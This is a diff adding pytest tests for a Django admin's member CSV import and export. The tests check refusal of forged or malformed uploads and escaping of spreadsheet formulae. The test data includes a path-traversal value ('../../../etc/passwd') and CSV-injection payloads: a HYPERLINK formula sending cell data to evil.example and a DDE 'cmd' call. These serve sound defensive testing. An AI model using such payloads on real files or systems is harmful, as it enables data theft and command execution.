@@ -3,10 +3,13 @@ export of companies and people, the renew and publish actions, membership period
 not overlap, the standing filter, and the account admin, where organizers give roles
 without raising anyone's rights and the program committee cannot open memberships."""
 
+import csv
 import datetime
+import io
 from decimal import Decimal
 
 import pytest
+from django.conf import settings
 from django.contrib.auth.models import Group
 from django.contrib.messages import get_messages
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -213,6 +216,97 @@ def test_company_import_non_utf8_file_refused(organizer_client):
     assert MemberCompany.objects.count() == 0
 
 
+def assert_no_server_details(response) -> None:
+    body = response.content.decode()
+    assert response.status_code == 200
+    assert [
+        word for word in ("Traceback", "site-packages", str(settings.BASE_DIR)) if word in body
+    ] == []
+
+
+def test_company_import_missing_columns_shows_message_without_traceback(organizer_client):
+    response = import_csv(organizer_client, "membercompany", b"slug,name\nacme,Acme\n")
+
+    assert_no_server_details(response)
+    assert (
+        "<li>The file lacks the column(s) industry, country. Its first line must name the "
+        "columns; these are required: slug, name, industry, country.</li>"
+    ) in response.content.decode()
+
+
+def test_company_import_binary_file_refused_without_traceback(organizer_client):
+    content = COMPANY_HEADER.encode() + b"acme,\x00\x01\x02\x7f,banking,NL,,,no\n"
+
+    response = import_csv(organizer_client, "membercompany", content)
+
+    assert_no_server_details(response)
+    assert response.context["form"].errors["import_file"] == [
+        "Line 2 holds a NUL byte: this is not a text file. Save it as “CSV UTF-8” and import "
+        "it again. Nothing was imported."
+    ]
+    assert MemberCompany.objects.count() == 0
+
+
+def test_company_import_line_with_extra_values_names_the_line(organizer_client):
+    content = companies_csv(2) + b"acme-9,Acme, Inc.,banking,NL,,,no\n"
+
+    response = import_csv(organizer_client, "membercompany", content)
+
+    assert_no_server_details(response)
+    assert (
+        response.context["form"]
+        .errors["import_file"][0]
+        .startswith("Line 4 has 8 values but the first line names 7 columns.")
+    )
+
+
+def test_company_import_confirmed_twice_imports_once_and_says_so(organizer_client):
+    preview = import_csv(organizer_client, "membercompany", companies_csv(2))
+    confirm = preview.context["confirm_form"].initial
+    organizer_client.post(reverse("admin:members_membercompany_process_import"), confirm)
+    MemberCompany.objects.filter(slug="acme-0").delete()
+
+    again = organizer_client.post(
+        reverse("admin:members_membercompany_process_import"), confirm, follow=True
+    )
+
+    assert again.redirect_chain == [(reverse("admin:members_membercompany_import"), 302)]
+    assert [str(m) for m in get_messages(again.wsgi_request)][-1] == (
+        "Nothing was imported: this file was imported already, or its preview is more than a "
+        "day old. Upload the file again."
+    )
+    assert list(MemberCompany.objects.values_list("slug", flat=True)) == ["acme-1"]
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        {"import_file_name": "0123456789abcdef0123456789abcdef"},
+        {"import_file_name": "../../../etc/passwd"},
+        {"import_file_name": "x" * 5000},
+        {"import_file_name": ""},
+        {"format": "7"},
+        {"format": "x"},
+        {"resource": "3"},
+        {"resource": "-1"},
+    ],
+)
+def test_company_import_forged_confirmation_refused_with_message(organizer_client, forged):
+    preview = import_csv(organizer_client, "membercompany", companies_csv(2))
+
+    response = organizer_client.post(
+        reverse("admin:members_membercompany_process_import"),
+        {**preview.context["confirm_form"].initial, **forged},
+        follow=True,
+    )
+
+    assert response.redirect_chain == [(reverse("admin:members_membercompany_import"), 302)]
+    assert [str(m) for m in get_messages(response.wsgi_request)][-1].startswith(
+        "Nothing was imported: "
+    )
+    assert MemberCompany.objects.count() == 0
+
+
 PEOPLE_HEADER = "email,first_name,last_name,company,job_title,is_primary_contact,public_profile\n"
 
 
@@ -309,6 +403,17 @@ def test_people_import_2000_rows_dry_run_then_import(organizer_client):
     assert (done.status_code, Member.objects.count()) == (302, 2000)
 
 
+def test_company_import_confirmation_refused_to_program_committee(client):
+    client.force_login(ReviewerFactory())
+
+    response = client.post(
+        reverse("admin:members_membercompany_process_import"),
+        {"import_file_name": "0" * 32, "original_file_name": "a.csv", "format": "0"},
+    )
+
+    assert (response.status_code, MemberCompany.objects.count()) == (403, 0)
+
+
 def test_company_import_refused_to_program_committee(client):
     client.force_login(ReviewerFactory())
 
@@ -344,6 +449,78 @@ def test_people_export_names_company_by_slug():
     exported = MemberResource().export().csv
 
     assert exported.splitlines()[1] == "ada@orbit.example,Ada,Lovelace,orbit,CTO,yes,no"
+
+
+def export_csv(client, model: str) -> list[list[str]]:
+    """Download the model's CSV through the admin's export page, every column chosen."""
+    form = client.get(reverse(f"admin:members_{model}_export")).context["form"]
+    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}
+    response = client.post(
+        reverse(f"admin:members_{model}_export"), {"format": "0", "resource": "0", **columns}
+    )
+    assert response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+FORMULAE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "==1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_people_export_escapes_formulae_in_every_cell(organizer_client):
+    for number, formula in enumerate(FORMULAE):
+        MemberFactory(
+            user__email=f"p{number}@orbit.example",
+            user__first_name=formula,
+            job_title=formula,
+            company__slug=f"orbit-{number}",
+        )
+
+    rows = export_csv(organizer_client, "member")
+
+    by_email = {row[0]: row for row in rows[1:]}
+    assert [
+        (by_email[f"p{n}@orbit.example"][1], by_email[f"p{n}@orbit.example"][4])
+        for n in range(len(FORMULAE))
+    ] == [("'" + formula, "'" + formula) for formula in FORMULAE]
+    assert [
+        cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}
+    ] == []
+
+
+def test_company_export_escapes_formulae(organizer_client):
+    MemberCompanyFactory(slug="orbit", name="=1+1", description="@cmd", membership=None)
+
+    rows = export_csv(organizer_client, "membercompany")
+
+    assert (rows[1][1], rows[1][5]) == ("'=1+1", "'@cmd")
+
+
+def test_people_export_with_formulae_imports_back_unchanged(organizer_client):
+    MemberFactory(
+        user__email="ada@orbit.example",
+        user__first_name="'quoted",
+        job_title='=HYPERLINK("https://evil.example","x")',
+        company__slug="orbit",
+    )
+    rows = export_csv(organizer_client, "member")
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+
+    response = import_csv(organizer_client, "member", buffer.getvalue().encode())
+
+    member = Member.objects.select_related("user").get()
+    assert response.context["result"].totals["skip"] == 1
+    assert (member.user.first_name, member.job_title) == (
+        "'quoted",
+        '=HYPERLINK("https://evil.example","x")',
+    )
 
 
 def test_company_export_page_opens(organizer_client):
